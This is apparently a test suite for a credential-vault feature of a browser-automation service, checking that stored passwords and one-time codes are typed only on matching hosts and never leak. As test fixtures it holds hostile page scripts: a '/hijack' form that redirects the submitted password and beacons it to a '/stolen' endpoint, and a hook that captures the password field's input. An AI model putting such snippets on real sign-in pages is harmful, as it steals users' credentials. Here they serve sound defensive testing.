// The vault: sign-ins are typed where they belong and nowhere else, and nothing that is stored or returned has them.
import { beforeAll, describe, expect, it } from 'vitest'
import { WebSocket } from 'ws'
import type { Pages } from '../site/site.ts'
import { holders } from './raw-bytes.ts'
import { openReceiver } from './receiver.ts'
import { shared } from './shared.ts'
import { until } from './waiting.ts'

const USER = 'marker-user-7f31'
const PASSWORD = 'marker-pass-9c02'
const KEY = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ'

let codes: string[] = []
const stolen: string[] = []
const page = (body: string) => `<!doctype html><title>Shop</title><main><h1>Sign in</h1>${body}</main>`
const form = (action = '') => `<form id="f" action="${action}"><label>User name <input id="u" name="u"></label>
  <label>Password <input id="p" name="p" type="password"></label><button>Sign in</button></form>`
/** Scripts copy what is typed into attributes and texts, as frameworks do. */
const SCRIPT = `<script>f.onsubmit = async (event) => { event.preventDefault()
  const user = u.value
  for (const one of [u, p]) one.setAttribute('value', one.value)
  const sent = await fetch('/check', { method: 'POST', body: user + ' ' + p.value })
  if ((await sent.text()) !== 'yes') return
  f.innerHTML = '<label>Authentication code <input id="c"></label>'
  f.onsubmit = (event) => { event.preventDefault(); fetch('/code?' + c.value); document.body.innerHTML = '<h1>Welcome</h1><p>Signed in as ' + user + '</p>' } }</script>`

const html =
  (body: string) =>
  ({ response }: { response: import('node:http').ServerResponse }) =>
    void response.writeHead(200, { 'content-type': 'text/html' }).end(body)

const pages: Pages = {
  '/login': html(page(form() + SCRIPT)),
  '/elsewhere': html(page(form('http://localhost:1/take'))),
  '/button-elsewhere': html(page(form().replace('<button>', '<button formaction="http://localhost:1/take">'))),
  '/hijack': ({ response, port }) =>
    void response.writeHead(200, { 'content-type': 'text/html' }).end(
      page(`${form('/check')}<script>f.method = 'post'
        f.addEventListener('submit', () => { f.action = 'http://localhost:${port}/stolen?' + p.value
          navigator.sendBeacon('http://localhost:${port}/stolen?beacon', p.value) })</script>`),
    ),
  '/stolen': ({ url, response }) => {
    stolen.push(url.search)
    response.end('ok')
  },
  '/by-get': html(page(form('/shown'))),
  '/plain': html(page(form('/shown').replace('id="f"', 'id="f" method="post"'))),
  '/shown': html(
    `<!doctype html><title>Shop</title><h1>Welcome</h1><a href="#" id="go" onclick="document.title = 'pressed'">Go</a>`,
  ),
  '/drawings': html(
    page(`${form()}<script>f.onsubmit = (event) => { event.preventDefault()
      const [user, pass] = [u.value, p.value], half = pass.length / 2
      document.body.innerHTML = '<h1>Welcome</h1><svg width=600 height=60><text y=40 font-size=32>' + pass + '</text></svg><p id=split style="font-size:32px"></p>' +
        '<p id=pseudo data-it="' + pass + '" style="font-size:32px"></p><canvas width=600 height=60></canvas><p style="font-size:32px">The end of it</p>'
      for (const part of [pass.slice(0, half), pass.slice(half)]) split.append(part)
      const style = document.createElement('style'); style.textContent = '#pseudo::before { content: attr(data-it) }'; document.head.append(style)
      const pen = document.querySelector('canvas').getContext('2d'); pen.font = '32px sans-serif'; pen.fillText(pass, 0, 40)
    }</script>`),
  ),
  '/framed': ({ response, port }) =>
    void response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(page(`<iframe src="http://localhost:${port}/login" width="600" height="300"></iframe>`)),
  '/check': async ({ request, response }) => {
    let body = ''
    for await (const part of request) body += part
    response.end(body === `${USER} ${PASSWORD}` ? 'yes' : 'no')
  },
  '/code': ({ response, url }) => {
    codes.push(url.search.slice(1))
    response.end('ok')
  },
}

const { site, service } = shared(pages, { names: { localhost: { a: ['127.0.0.1'] } } })

beforeAll(async () => {
  const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD, totp: `otpauth://totp/shop?secret=${KEY}` }
  expect((await service.call('PUT', '/v2/vault/shop', entry)).status).toBe(200)
  // With a one-time code in the entry, each page that does not ask for one is watched for eight seconds.
  const { totp: _, ...simple } = entry
  expect((await service.call('PUT', '/v2/vault/simple', simple)).status).toBe(200)
})

async function signIn(url: string, vault: 'shop' | 'simple' = 'simple') {
  await service.call('PUT', '/v2/flow/sign-in', {
    steps: [
      { type: 'open', url },
      { type: 'login', vault },
    ],
  })
  return service.call('POST', '/v2/flow/sign-in/run', { formats: ['markdown', 'rawHtml'] })
}

const execute = (id: string, code: string) =>
  service.call('POST', `/v2/interact/${id}/execute`, { code, language: 'node' })

/** A recorded session that shows this page. */
async function session(path: string, webhook?: object) {
  const { id, liveViewUrl } = (await service.call('POST', '/v2/interact', { recordSession: true, webhook })).json
  const prompt = async (text: string) =>
    (await service.call('POST', `/v2/interact/${id}/prompt`, { prompt: text, timeout: 90 })).json
  expect(await prompt(`Open ${site.url}${path}`)).toMatchObject({ exitCode: 0 })
  return { id, liveViewUrl, prompt, end: () => service.call('DELETE', `/v2/interact/${id}`) }
}

/** The words of a picture, as a person sees them. */
async function readByOcr(data: Buffer): Promise<string> {
  const { markdown } = await service.sdk.parse({ data, filename: 'picture.jpg' }, {
    parsers: ['image'],
    timeout: 200_000,
  } as never)
  return markdown ?? ''
}

describe('the vault', () => {
  it('signs in with a code of the moment, and shows dots everywhere', async () => {
    codes = []
    const { json } = await signIn(`${site.url}/login`, 'shop')
    expect(json.error).toBeUndefined()
    expect(json.document.markdown).toContain('Welcome')
    // The page shows that it is done before its request has arrived.
    await expect.poll(() => codes).toEqual([expect.stringMatching(/^\d{6}$/)])
    const said = JSON.stringify(json)
    expect(said).not.toContain(PASSWORD)
    expect(said).not.toContain(USER)
    const picture = await (await fetch(json.steps.at(-1).picture)).arrayBuffer()
    const shown = await readByOcr(Buffer.from(picture))
    expect(shown).toMatch(/signed in as/i)
    expect(shown).not.toMatch(/marker|user-7f/i)
    const listed = (await service.call('GET', '/v2/vault')).json
    expect(listed.entries).toMatchObject([{ name: 'shop', domain: '127.0.0.1' }, { name: 'simple' }])
    expect(JSON.stringify(listed)).not.toMatch(/marker|GEZDG/)
  })

  it.each(['/elsewhere', '/button-elsewhere', '/framed'])(
    'never types into a form or a frame of others: %s',
    async (path) => {
      const { status, json } = await signIn(`${site.url}${path}`)
      expect(status).toBe(422)
      expect(json).toMatchObject({ code: 'FLOW_STEP_FAILED', error: expect.stringContaining('the vault entry is for') })
      expect(JSON.stringify(json)).not.toMatch(/marker/)
    },
  )

  it('never types on another host', async () => {
    const { json } = await signIn(`http://localhost:${site.port}/login`)
    expect(json).toMatchObject({ code: 'FLOW_STEP_FAILED', error: expect.stringContaining('the field belongs to') })
  })

  it('signs in by an action of a scrape', async () => {
    const { json } = await service.call('POST', '/v2/scrape', {
      url: `${site.url}/login`,
      formats: ['markdown', 'rawHtml'],
      actions: [{ type: 'login', vault: 'shop' }],
    })
    expect(json.error).toBeUndefined()
    expect(json.data.markdown).toContain('Welcome')
    expect(JSON.stringify(json)).not.toMatch(/marker/)
  })

  it('sends nothing elsewhere while it types, also where the page changes the form on submit', async () => {
    const { json } = await signIn(`${site.url}/hijack`)
    expect(JSON.stringify(json)).not.toMatch(/marker/)
    expect(stolen).toEqual([])
  })

  it('masks what a form writes into an address', async () => {
    const { json } = await service.call('POST', '/v2/scrape', {
      url: `${site.url}/by-get`,
      formats: ['markdown', 'rawHtml', 'links'],
      actions: [{ type: 'login', vault: 'simple' }, { type: 'scrape' }],
    })
    expect(json.data.metadata.url).toContain('/shown?u=')
    expect(JSON.stringify(json)).not.toMatch(/marker/)
    const { id, prompt, end } = await session('/by-get')
    const seen = [await prompt('sign in with vault:simple'), await prompt('Read the text of the page')]
    seen.push((await service.call('GET', `/v2/interact/${id}/steps?ended=true`)).json)
    await end()
    const { recordingUrl } = (await service.call('GET', `/v2/interact/${id}`)).json
    seen.push(await (await fetch(recordingUrl)).text())
    expect(JSON.stringify(seen)).toMatch(/shown/)
    expect(JSON.stringify(seen)).not.toMatch(/marker/)
  })

  it('paints over drawings, parts of texts and generated content', async () => {
    const { json } = await service.call('POST', '/v2/scrape', {
      url: `${site.url}/drawings`,
      formats: ['markdown', 'rawHtml', { type: 'screenshot', fullPage: true }],
      actions: [{ type: 'login', vault: 'simple' }],
    })
    expect(json.data.markdown).toContain('The end of it')
    expect(JSON.stringify(json)).not.toMatch(/marker|9c02/)
    const shown = await readByOcr(Buffer.from(await (await fetch(json.data.screenshot)).arrayBuffer()))
    expect(shown).toMatch(/the end/i)
    expect(shown).not.toMatch(/mark|pass|9c|02/i)
  })

  const HOOK = `window.got = ''; p.addEventListener('input', () => { got = p.value }); 1`
  const scrapeWith = async (path: string, ...actions: object[]) =>
    (await service.call('POST', '/v2/scrape', { url: `${site.url}${path}`, formats: ['rawHtml'], actions })).json

  it('keeps code of the caller out of the document before and after it types', async () => {
    const [login, simple] = ['shop', 'simple'].map((vault) => ({ type: 'login', vault })) as [object, object]
    const read = { type: 'executeJavascript', script: 'btoa(document.querySelector("#p")?.value ?? location.href)' }
    const before = await scrapeWith('/login', { type: 'executeJavascript', script: HOOK }, login, read)
    expect(before).toMatchObject({ success: false, error: expect.stringContaining('the caller’s code has run') })
    const after = await scrapeWith('/login', login, read)
    expect(after).toMatchObject({ success: false, error: expect.stringContaining('typed in this document') })
    const inAddress = await scrapeWith('/by-get', simple, read)
    expect(inAddress.error).toContain('typed in this document')
    const next = await scrapeWith('/plain', simple, { type: 'executeJavascript', script: 'document.title' })
    expect(next.data.actions.javascriptReturns).toEqual([{ type: 'string', value: 'Shop' }])
  })

  it('lets code run where the entry says so, and masks what it returns', async () => {
    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD, code: true }
    await service.call('PUT', '/v2/vault/open', entry)
    const read = { type: 'executeJavascript', script: '({ [got]: got, body: document.body.outerHTML })' }
    const actions = [{ type: 'executeJavascript', script: HOOK }, { type: 'login', vault: 'open' }, read]
    const { data } = await scrapeWith('/drawings', ...actions, { type: 'scrape' })
    expect(data.actions.javascriptReturns[1].value.body).toContain('Welcome')
    expect(data.actions.scrapes[0].html).toContain('Welcome')
    expect(JSON.stringify(data)).not.toMatch(/marker|9c02/)
  })

  it('keeps sessions for code apart from those that sign in', async () => {
    const coded = await session('/login')
    await execute(coded.id, HOOK.replace('window.got', 'await page.title(); globalThis.got').replace(/; p\..*/, ''))
    expect(await coded.prompt('sign in with vault:shop')).toMatchObject({
      exitCode: 1,
      output: expect.stringContaining('the caller’s code has run'),
    })
    await coded.end()
    const signed = await session('/login')
    expect(await signed.prompt('sign in with vault:shop')).toMatchObject({ exitCode: 0 })
    expect(await execute(signed.id, '1')).toMatchObject({
      status: 403,
      json: { error: expect.stringContaining('vault') },
    })
    const { cdpUrl } = (await service.call('GET', `/v2/interact/${signed.id}`)).json
    const socket = new WebSocket(cdpUrl)
    expect(await new Promise((resolve) => socket.on('error', ({ message }) => resolve(message)))).toContain('403')
    await signed.end()
  })

  it('is for keys with its right, and an entry for the keys and flows that it lists', async () => {
    const make = async (body: object) => (await service.call('POST', '/v2/admin/keys', { name: 'k', ...body })).json
    const plain = await make({})
    const right = await make({ rights: ['vault'] })
    const as = (key: string, method: string, path: string, body?: object) =>
      service.call(method, path, body, { authorization: `Bearer ${key}` })
    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD }
    for (const [method, path, body] of [
      ['GET', '/v2/vault'],
      ['PUT', '/v2/vault/mine', entry],
      ['DELETE', '/v2/vault/shop'],
      ['PUT', '/v2/flow/mine', { steps: [{ type: 'login', vault: 'shop' }] }],
    ] as const)
      expect((await as(plain.key, method, path, body)).status, `${method} ${path}`).toBe(403)
    const scrape = (key: string, action: object = { type: 'login', vault: 'mine' }) =>
      as(key, 'POST', '/v2/scrape', { url: `${site.url}/plain`, formats: ['rawHtml'], actions: [action] })
    expect((await as(right.key, 'PUT', '/v2/vault/mine', entry)).status).toBe(200)
    expect((await scrape(plain.key)).json.error).toContain('the right `vault`')
    expect((await scrape(right.key)).json.error).toBeUndefined()
    await as(right.key, 'PUT', '/v2/vault/mine', { ...entry, keys: [plain.data.id] })
    expect((await scrape(right.key)).json.error).toContain('this key may not use')
    await as(right.key, 'PUT', '/v2/vault/mine', { ...entry, flows: ['enter'] })
    await as(right.key, 'PUT', '/v2/flow/enter', { steps: [{ type: 'login', vault: 'mine' }] })
    expect((await scrape(right.key)).json.error).toContain('other flows: enter')
    expect((await scrape(right.key, { type: 'flow', name: 'enter' })).json.error).toBeUndefined()
    expect((await as(right.key, 'GET', '/v2/vault')).json.entries[0]).toMatchObject({ name: 'mine', flows: ['enter'] })
    const { id } = (await service.call('POST', '/v2/interact', {})).json
    const prompted = { prompt: `Open ${site.url}/plain` }
    expect((await as(plain.key, 'POST', `/v2/interact/${id}/prompt`, prompted)).json.exitCode).toBe(0)
    const signing = { prompt: 'sign in with vault:shop' }
    expect((await as(plain.key, 'POST', `/v2/interact/${id}/prompt`, signing)).json.output).toContain(
      'the right `vault`',
    )
    await service.call('DELETE', `/v2/interact/${id}`)
    const scraper = await make({ endpoints: ['scrape', 'batch-scrape'], rights: ['vault'] })
    for (const action of [
      { type: 'flow', name: 'enter' },
      { type: 'login', vault: 'shop' },
    ])
      expect(await scrape(scraper.key, action)).toMatchObject({ status: 403 })
    const batch = { urls: [`${site.url}/plain`], actions: [{ type: 'flow', name: 'enter' }] }
    expect((await as(scraper.key, 'POST', '/v2/batch/scrape', batch)).status).toBe(403)
    expect((await as(scraper.key, 'POST', '/v2/flow/enter/run', {})).status).toBe(403)
  })

  it('signs in by a prompt, which is recorded by the name of the entry', async () => {
    const { id, prompt, end } = await session('/login')
    const odd = await prompt('Sign in with vault:shop in turquoise')
    expect([odd.exitCode, odd.output]).toEqual([1, expect.stringContaining('turquoise')])
    const none = await prompt('Sign in with vault:nothing')
    expect(none.output).toContain('the vault has no entry "nothing"')
    codes = []
    const done = await prompt('sign in with vault:shop')
    expect([done.exitCode, done.output]).toEqual([0, expect.stringContaining('vault entry "shop"')])
    // The page shows that it is done before its request has arrived.
    await expect.poll(() => codes).toEqual([expect.stringMatching(/^\d{6}$/)])
    const { json } = await service.call('GET', `/v2/interact/${id}/steps`)
    expect(json.steps).toEqual([expect.objectContaining({ type: 'open' }), { type: 'login', vault: 'shop' }])
    for (const said of [odd, none, done, json]) expect(JSON.stringify(said)).not.toMatch(/marker/)
    const again = await prompt('Read the text of the page')
    expect(JSON.stringify(again)).not.toMatch(/marker/)
    await end()
    const { recordingUrl } = (await service.call('GET', `/v2/interact/${id}`)).json
    const film = JSON.parse(
      /<script[^>]*id="film"[^>]*>(.*?)<\/script>/s.exec(await (await fetch(recordingUrl)).text())![1]!,
    )
    const [, last] = film.frames.at(-1)
    expect(await readByOcr(Buffer.from(last, 'base64'))).not.toMatch(/marker|user-7f/i)
  })

  it('waits for a code that was sent to a person, and says so', async () => {
    const entry = { domain: '127.0.0.1', username: USER, password: PASSWORD, code: true }
    await service.call('PUT', '/v2/vault/mailed', entry)
    const receiver = await openReceiver()
    const { id, prompt, liveViewUrl, end } = await session('/login', { url: receiver.url, metadata: { for: 'me' } })
    codes = []
    let isOver = false
    const signing = prompt('Log in using vault:mailed').finally(() => {
      isOver = true
    })
    const facts = async () => (await service.call('GET', `/v2/interact/${id}`)).json
    await until(async () => isOver || (await facts()).needsInput === 'code')
    const { ticket } = (await (await fetch(`${liveViewUrl}?ticket=1`)).json()) as { ticket: string }
    const socket = new WebSocket(`${service.url.replace('http', 'ws')}/live/${id}/socket/${ticket}`)
    const notice = await new Promise((resolve) => {
      socket.addEventListener('message', ({ data }) => {
        if (typeof data === 'string' && data.includes('notice')) resolve(JSON.parse(data).notice)
      })
    })
    expect(notice).toContain('asks for a code')
    await until(() => receiver.letters.length > 0)
    expect(receiver.letters).toEqual([
      expect.objectContaining({
        type: 'session.needsInput',
        id,
        data: [{ needsInput: 'code' }],
        metadata: { for: 'me' },
      }),
    ])
    receiver.close()
    socket.close()
    await execute(id, `await page.fill('#c', '424242'); await page.press('#c', 'Enter')`)
    expect(await signing).toMatchObject({ exitCode: 0 })
    // The page shows that it is done before its request has arrived.
    await expect.poll(() => codes).toEqual(['424242'])
    expect((await facts()).needsInput).toBeUndefined()
    await end()
    const { json } = await service.call('POST', '/v2/scrape', {
      url: `${site.url}/login`,
      actions: [{ type: 'login', vault: 'mailed' }],
    })
    expect(json.error).toContain('a code that is sent to a person')
  })

  it('leaves nothing of them in the data folder or the log', async () => {
    for (const marker of [USER, PASSWORD, KEY]) expect(holders(service.dataDir, marker, 0), marker).toEqual([])
    for (const marker of [USER, PASSWORD, KEY])
      expect([service.printed(), ...service.logged()].join('\n')).not.toContain(marker)
  })

  it('forgets an entry, and refuses one that is none', async () => {
    expect((await service.call('DELETE', '/v2/vault/shop')).status).toBe(200)
    expect((await service.call('DELETE', '/v2/vault/shop')).status).toBe(404)
    const { json } = await signIn(`${site.url}/login`, 'shop')
    expect(json.error).toContain('the vault has no entry "shop"')
    const bad = { domain: 'https://x.com/', username: 'a', password: 'b', totp: 'otpauth://hotp/x' }
    const refused = await service.call('PUT', '/v2/vault/shop', bad)
    expect(refused.status).toBe(400)
    expect(JSON.stringify(refused.json)).toMatch(/must be a host[\s\S]*otpauth/)
  })
})
